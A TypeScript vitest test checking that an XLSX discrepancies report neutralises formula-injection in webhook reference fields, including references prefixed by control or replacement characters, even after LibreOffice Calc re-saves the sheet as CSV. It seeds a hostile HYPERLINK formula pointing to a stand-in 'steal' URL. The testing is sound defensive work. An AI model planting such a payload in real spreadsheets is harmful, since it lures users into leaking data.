import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDatabase, type TestDatabase } from '../helpers/database.js';
import { call, insertFinding, startOperatorServer } from '../http/operator-harness.js';
import type { HttpServer } from '../../src/http/server.js';
import { DISCREPANCY_COLUMNS } from '../../src/reports/discrepancies.js';
import { convertToFods, convertWithCalc, readFods } from '../web/libreoffice.js';

// docs/reports.md: "in CSV and XLSX a text field that starts with =, +, -, @, tab or CR gets a
// leading '". write-excel-file drops the characters XML cannot hold or discourages (C0 controls,
// U+007F-U+009F, U+FFFD, ...) from a cell's text, so a reference that starts with one of them
// before a sign must be neutralised as written, not as stored. A webhook's external_reference_id
// may hold "\u0001" (a JSON escape; only NUL and lone surrogates are refused), and storableText()
// writes U+FFFD for a lone surrogate.

const HOSTILE = '=HYPERLINK("http://evil.invalid/steal","Open invoice")';

let db: TestDatabase;
let server: HttpServer;
let dir: string;
beforeAll(async () => {
  db = await createTestDatabase('reports_xlsx_dropped_chars', { poolMax: 4 });
  server = await startOperatorServer(db);
  dir = await mkdtemp(path.join(tmpdir(), 'xlsx-dropped-chars-'));
  await insertFinding(db, { kind: 'missed_webhook', entity: '11111111-1111-4111-8111-111111111111', ref: `\u0001${HOSTILE}` });
  await insertFinding(db, { kind: 'missed_webhook', entity: '22222222-2222-4222-8222-222222222222', ref: `\ufffd${HOSTILE}` });
  // The control: a reference starting with the sign itself, neutralised as documented.
  await insertFinding(db, { kind: 'missed_webhook', entity: '44444444-4444-4444-8444-444444444444', ref: HOSTILE });
});
afterAll(async () => { await server?.close(); });

describe.skipIf(!existsSync('/usr/bin/soffice'))('XLSX discrepancies report: a reference whose first character the XLSX writer drops', () => {
  it('stays neutralised: re-saved as CSV by Calc and opened again, no cell is a formula', async () => {
    const answer = await call(`${server.url}/api/discrepancies?format=xlsx`);
    expect(answer.status).toBe(200);
    const xlsx = path.join(dir, 'discrepancies.xlsx');
    await writeFile(xlsx, answer.bytes);
    // As the XLSX opens: the reference as Calc holds it.
    const sheet = await readFods(await convertToFods(xlsx, dir));
    const refs = sheet.slice(1).map((r) => r[DISCREPANCY_COLUMNS.indexOf('external_reference_id')]?.text);
    // The accountant saves the sheet as CSV (Calc's default CSV export) and opens that CSV.
    const csvDir = path.join(dir, 'csv');
    await mkdir(csvDir, { recursive: true });
    const csv = await convertWithCalc(xlsx, csvDir, 'csv');
    const reopened = await readFods(await convertToFods(csv, csvDir, 'CSV:44,34,76,1'));
    const formulas = reopened.flat().filter((c) => c.formula !== undefined).map((c) => c.formula);
    expect({ refs, formulas }).toEqual({ refs: [`'${HOSTILE}`, `'${HOSTILE}`, `'${HOSTILE}`], formulas: [] });
  }, 240_000);
});
